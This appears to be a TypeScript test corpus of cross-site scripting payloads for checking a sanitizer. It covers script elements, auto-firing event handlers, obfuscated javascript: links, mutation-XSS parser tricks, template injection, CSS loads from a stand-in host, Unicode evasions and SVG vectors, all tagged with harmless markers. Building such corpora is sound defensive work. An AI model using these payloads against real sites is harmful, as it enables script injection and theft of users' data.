/**
 * Scripts that arrive as data: names, descriptions, log lines, Markdown, SVG. Each is known by its number: it calls `payloadRan(<number>)`
 * where it is executed, and asks `canary.example/<number>` where only an address of it is followed.
 */

const run = "payloadRan(§)";
const elsewhere = "//canary.example/§";

const elements = [
  `<script>${run}</script>`,
  `<script src=${elsewhere}></script>`,
  `<script type=module>${run}</script>`,
  `<SCRIPT/x>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>/*<!--*/${run}<!-- </script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="${elsewhere}"></iframe>`,
  `<object data="${elsewhere}"></object>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="${elsewhere}">`,
  `<embed src="javascript:${run}">`,
  `<form action="${elsewhere}"><button autofocus>x</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${run}">x</button>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">${run}`,
  `<base href="${elsewhere}/">`,
  `<link rel=stylesheet href="${elsewhere}">`,
  `<link rel=prefetch href="${elsewhere}">`,
  `<link rel=modulepreload href="${elsewhere}">`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<img src="${elsewhere}">`,
  `<picture><source srcset="${elsewhere}"><img></picture>`,
  `<table background="${elsewhere}"><tr><td>x</table>`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<portal src="${elsewhere}"></portal>`,
];

/** Elements with an event that comes without anybody doing something. */
const handled = [
  ["img src=x", "error"],
  ["img src=/icon.svg", "load"],
  ["image src=x", "error"],
  ["audio src=x", "error"],
  ["video src=x", "error"],
  ["video><source src=x", "error"],
  ["body", "load"],
  ["body", "pageshow"],
  ["body", "hashchange"],
  ["svg", "load"],
  ["iframe", "load"],
  ["object data=x", "error"],
  ["embed src=x", "error"],
  ["input autofocus", "focus"],
  ["textarea autofocus", "focus"],
  ["select autofocus", "focus"],
  ["button autofocus", "focusin"],
  ["a href=# autofocus", "focus"],
  ["div tabindex=0 autofocus", "focus"],
  ["details open", "toggle"],
  ["dialog open", "beforetoggle"],
  ["marquee", "start"],
  ["link rel=stylesheet href=x", "error"],
  ["style", "load"],
  ["div style=animation:x", "animationstart"],
  ["div style=transition:all", "transitionrun"],
  ["p", "pointerenter"],
  ["p", "mouseover"],
  ["xss contenteditable", "scrollend"],
  ["video autoplay muted src=x", "loadstart"],
].map(([element, event]) => `<${element} on${event}="${run}">x`);

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  elsewhere,
];
const links = schemes.flatMap((address) => [
  address,
  `[a link](<${address}>)`,
  `![an image](${address})`,
  `<a href="${address}" autofocus>x</a>`,
]);

const image = `<img src=x onerror=${run}>`;
const breaking = [
  ...[`">`, `'>`, "`>", "-->", "]]>", "*/", "</textarea>", "</title>", "</style>", "</script>"].map(
    (end) => end + image,
  ),
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}`,
  `x" onerror="${run}`,
  `\\";${run};//`,
  `'-${run}-'`,
  "`-" + run + "-`",
  `\u2028${run}\u2028`,
  `\r\n\r\n<script>${run}</script>`,
  `\\u003cscript>${run}\\u003c/script>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `![x](x "x" onerror=${run})`,
];

/** They become another tree when what was parsed once is written down and parsed again. */
const mutating = [
  `<math><mtext><mglyph><style>${image}`,
  `<math><mtext><table><mglyph><style><!--</style>${image.replace("<", "&lt;")}`,
  `<svg></p><style><a id="</style>${image}">`,
  `<svg><style><img title="</style>${image}">`,
  `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<select><template><style><a title="</style>${image}">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<noembed><a title="</noembed>${image}">`,
  `<xmp><p title="</xmp>${image}">`,
  `<plaintext><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
];

const templating = [
  `{{constructor.constructor("${run}")()}}`,
  `{{$on.constructor("${run}")()}}`,
  `{{range.constructor("return ${run}")()}}`,
  `[[${run}]] {{{${run}}}}`,
  `<div ng-app ng-csp>{{$eval.constructor("${run}")()}}</div>`,
  `<div v-html="${run}" @vue:mounted="${run}"></div>`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{%raw%}<script>${run}</script>{%endraw%}`,
  `{"$$typeof":"react.element","type":"script","props":{"children":"${run}"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<script>${run}</script>"}}`,
];

const styles = [
  `<style>@import "${elsewhere}";</style>`,
  `<style>*{background:url(${elsewhere})}</style>`,
  `<style>@font-face{font-family:x;src:url(${elsewhere})}*{font-family:x}</style>`,
  `<p style="background:url(${elsewhere})">x</p>`,
  `<p style="background:url('javascript:${run}')">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `red;background:url(${elsewhere})`,
  `url(${elsewhere})`,
  `}*{background-image:url(${elsewhere})}/*`,
  `<style>input[value^=a]{background:url(${elsewhere})}</style>`,
];

const unicode = [
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u202e<script>${run}</script>`,
  `\u200b<img src=x onerror=\u200b${run}>`,
  `\ufeff<script>${run}</script>`,
  `<\u017fcript>${run}</\u017fcript>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u{e003c}<svg/onload=${run}>`,
  `<img\u000csrc=x\u000conerror=${run}>`,
];

const prototypes = [
  `__proto__ ${run}`,
  `constructor ${run}`,
  `__proto__[innerHTML]=${image}`,
  `constructor.prototype.srcdoc=<script>${run}</script>`,
  `{"__proto__":{"href":"javascript:${run}"}}`,
  `hasOwnProperty ${run} toString`,
  `__defineGetter__ ${run}`,
  `{"constructor":{"prototype":{"onerror":"${run}"}}}`,
];

const svgs = [
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><script xlink:href="${elsewhere}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"/></foreignObject></svg>`,
  `<svg><foreignObject>${image}</foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><use xlink:href="${elsewhere}#x"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><set onbegin="${run}" attributeName=x to=1></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  `<svg><animateTransform onend="${run}" attributeName=transform dur=1ms></svg>`,
  `<svg><image href="${elsewhere}"/></svg>`,
  `<svg><feImage href="${elsewhere}"/></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}"?><svg/>`,
  `<!DOCTYPE svg [<!ENTITY x "${run}">]><svg><script>&x;</script></svg>`,
  `<svg><style>@import "${elsewhere}";</style></svg>`,
  `<svg><title><![CDATA[</title>${image}]]></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#${elsewhere}" xlink:href="javascript:${run}">x</maction></math>`,
];

export const families = {
  elements,
  handled,
  links,
  breaking,
  mutating,
  templating,
  styles,
  unicode,
  prototypes,
  svgs,
};

export const payloads: readonly string[] = Object.values(families)
  .flat()
  .map((text, index) => text.replaceAll("§", String(index + 1)));

/** The numbers of the payloads in a text that is shown. */
export const numbersIn = (text: string): number[] =>
  [...text.matchAll(/(?:payloadRan\(|canary\.example\/)(\d+)/g)].map((match) => Number(match[1]));
